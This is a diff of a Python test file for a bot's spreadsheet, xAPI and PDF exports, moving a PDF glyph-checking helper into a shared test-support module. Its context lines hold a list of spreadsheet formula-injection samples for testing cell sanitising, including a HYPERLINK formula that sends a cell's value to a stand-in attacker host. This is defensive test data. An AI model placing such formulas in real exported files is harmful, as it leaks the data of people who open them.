@@ -29,6 +29,7 @@ from bot.exports.rows import Portfolio, RecordRow
 from bot.exports.safe_cells import SUSPECT_FIRST, cell_text
 from bot.exports.xapi import problems, statement, write_statements
 from bot.exports.xlsx_export import write_xlsx
+from tests.support.pdf_glyphs import drawn_characters
 
 RISKY = frozenset("=+-@\t\r\n")
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1:A2)",
@@ -517,47 +518,6 @@ def test_checker_finds_broken_statements(path: str, value: object) -> None:
     assert problems(_broken(path, value))
 
 
-def _to_unicode(cmap: bytes) -> list[tuple[int, str]]:
-    """(character id, character) pairs from a ToUnicode CMap's bfchar and bfrange sections."""
-    text = cmap.decode("latin-1")
-    pairs = [(int(cid, 16), chr(int(code, 16))) for block in re.findall(
-        r"beginbfchar(.*?)endbfchar", text, re.S) for cid, code in re.findall(
-        r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block)]
-    for block in re.findall(r"beginbfrange(.*?)endbfrange", text, re.S):
-        for first, last, code in re.findall(
-                r"<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>\s*<([0-9A-Fa-f]+)>", block):
-            pairs += [(cid, chr(int(code, 16) + cid - int(first, 16)))
-                      for cid in range(int(first, 16), int(last, 16) + 1)]
-    return pairs
-
-
-def _drawn_characters(data: bytes) -> set[str]:
-    """The characters whose glyph in the PDF's embedded fonts has an outline: what a reader
-    sees drawn, not just the text layer (a missing glyph keeps its text but draws a box)."""
-    from fontTools.ttLib import TTFont
-
-    drawn: set[str] = set()
-    pages: list[Any] = list(PdfReader(io.BytesIO(data)).pages)  # pypdf's objects, untyped
-    for page in pages:
-        fonts = page["/Resources"]["/Font"]
-        for ref in fonts.values():
-            font = ref.get_object()
-            descendant = font["/DescendantFonts"][0].get_object()
-            embedded = TTFont(io.BytesIO(
-                descendant["/FontDescriptor"]["/FontFile2"].get_object().get_data()))
-            glyphs = embedded["glyf"]
-            order = embedded.getGlyphOrder()
-            to_gid = descendant.get("/CIDToGIDMap")
-            table = to_gid.get_object().get_data() if to_gid is not None and \
-                not isinstance(to_gid.get_object(), str) else b""
-            for cid, char in _to_unicode(font["/ToUnicode"].get_object().get_data()):
-                gid = int.from_bytes(table[2 * cid:2 * cid + 2], "big") if table else cid
-                glyph = glyphs[order[gid]] if gid < len(order) else None
-                if glyph is not None and glyph.numberOfContours != 0:
-                    drawn.add(char)
-    return drawn
-
-
 def test_pdf_draws_georgian_kazakh_and_azerbaijani_letters() -> None:
     texts = {"ka": "ნათია ჯაფარიძე: უწყვეტი პროფესიული განვითარება",
              "az": "Davamlı peşəkar inkişaf: Əliyeva Gülşən, İsmayıllı",
@@ -568,7 +528,7 @@ def test_pdf_draws_georgian_kazakh_and_azerbaijani_letters() -> None:
         period_from=date(2026, 1, 1), period_to=date(2026, 12, 31),
         totals=[(texts["kk"], Decimal(2))], total=Decimal(2),
         entries=[record(title=texts["ka"], activity_name=texts["az"])]), out)
-    drawn = _drawn_characters(out.getvalue())
+    drawn = drawn_characters(out.getvalue())
     for language, text in texts.items():
         missing = {c for c in text if c.isalpha() and c not in drawn}
         assert not missing, (language, sorted(missing))
